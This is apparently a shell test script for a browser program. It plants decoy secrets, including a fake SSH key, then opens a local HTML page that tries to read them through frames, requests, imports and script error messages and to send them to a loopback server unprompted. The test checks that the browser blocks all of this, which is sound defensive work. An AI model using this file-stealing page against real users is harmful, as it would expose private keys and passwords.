#!/usr/bin/env bash
# A page opened from a file, in a folder that also holds a secret, on a real screen: it tries to read
# the secret by every route it has (a frame, a request, an object, a window's document, a JSON module,
# the error message of another file run as a script) and to send itself to the network on its own; it
# can only report what it read through the address of a link to a new window that the user clicks. The
# link reaches the loopback server and carries nothing read; nothing reaches the server before the
# click. Every wait is bounded.
# usage: local_page.sh PROGRAM SERVER
set -u
program="$1"
server_program="$2"
for tool in Xvfb openbox wmctrl xprop xdotool; do
  command -v "$tool" >/dev/null || { echo "skipped: $tool is not installed"; exit 77; }
done
source "$(dirname "$0")/virtual_screen.sh"
fail() {
  echo "$1"
  [ -n "${LOCAL_PAGE_SHOT:-}" ] && import -window root "$LOCAL_PAGE_SHOT" 2>/dev/null
  show_output
  exit 1
}

cp "$program" "$work/brivo"
start_virtual_screen
start_loopback_server "$server_program"

# the user's home folder holds the page beside the secret
home="$work/home"
mkdir -p "$home/.ssh" "$home/Downloads"
printf 'TOPSECRET-KEY' > "$home/.ssh/id_rsa"
printf '<title>bank</title>TOPSECRET-BANK' > "$home/Downloads/bank.html"
printf '{"key": "TOPSECRET-JSON"}' > "$home/Downloads/accounts.json"
printf 'password=TOPSECRETPASSWORD' > "$home/Downloads/notes.txt"
cat > "$home/Downloads/page.html" <<EOF
<title>local page</title>
<body style="margin:0">
<iframe id=f1 src="../.ssh/id_rsa"></iframe><iframe id=f2 src="bank.html"></iframe>
<object id=o data="bank.html"></object>
<a id=report target=_blank href="$server/too-early"
   style="display:none;position:fixed;left:0;top:0;width:100%;height:100%;background:#fc8">report</a>
<script>
// what a script of another file says when it fails names what it stumbled on
var errors = [];
window.onerror = function(message) { errors.push(message); };
</script>
<script src="notes.txt"></script>
<script>
function frame(e) { try { return e.contentDocument.body.innerText; } catch (x) { return ''; } }
window.onload = function() {
  var read = [frame(document.getElementById('f1')), frame(document.getElementById('f2')),
              frame(document.getElementById('o'))];
  try { var x = new XMLHttpRequest(); x.open('GET', 'bank.html', false); x.send(); read.push(x.responseText); }
  catch (e) {}
  fetch('bank.html').then(function(r) { return r.text(); }).catch(function() { return ''; }).then(function(t) {
    read.push(t);
    return import('./accounts.json', {assert: {type: 'json'}}).then(function(m) { return JSON.stringify(m.default); },
                                                                 function() { return ''; });
  }).then(function(t) {
    read.push(t);
    read = read.concat(errors.filter(function(e) { return e.indexOf('TOPSECRET') >= 0; }));
    var link = document.getElementById('report');
    link.href = '$server/report?read=' + encodeURIComponent(read.join('').replace(/\s/g, '') || 'nothing');
    link.style.display = 'block';
    // and on its own, without a click
    location.href = '$server/by-script?read=' + encodeURIComponent(read.join(''));
  });
};
</script>
</body>
EOF

export QT_QPA_PLATFORM=xcb
HOME="$home" XDG_CONFIG_HOME="$home/.config" XDG_DATA_HOME="$home/.local/share" \
  XDG_CACHE_HOME="$home/.cache" "$work/brivo" "$home/Downloads/page.html" > "$work/out.txt" 2>&1 &
app=$!
alive() { kill -0 "$app" 2>/dev/null; }
wait_for 450 main_window || fail "the main window did not appear"
wait_for 50 middle_of Brivo || fail "the main window's place was not found"

# the user clicks on the page (the link shows once the page has tried everything) until the new
# window asks the server for the link's address
click_report() { xdotool mousemove "$mid_x" "$mid_y" click 1; sleep 1; requested /report; }
wait_for 60 click_report || fail "the clicked link to a new window never reached the server"
alive || fail "the program ended"
requested /report?read=nothing || fail "the page read something: $(grep '^GET /report' "$work/served.txt")"
grep -q TOPSECRET "$work/served.txt" && fail "a secret reached the server"
requested /by-script && fail "the page sent itself to the network on its own"
requested /too-early && fail "the link went out before the page had tried everything"
# LOCAL_PAGE_SHOT names a file for a picture of the screen at the end (or at a failure)
[ -n "${LOCAL_PAGE_SHOT:-}" ] && sleep 1 && import -window root "$LOCAL_PAGE_SHOT" 2>/dev/null
echo "the local page read nothing and sent nothing on its own; the clicked link opened in a new window"
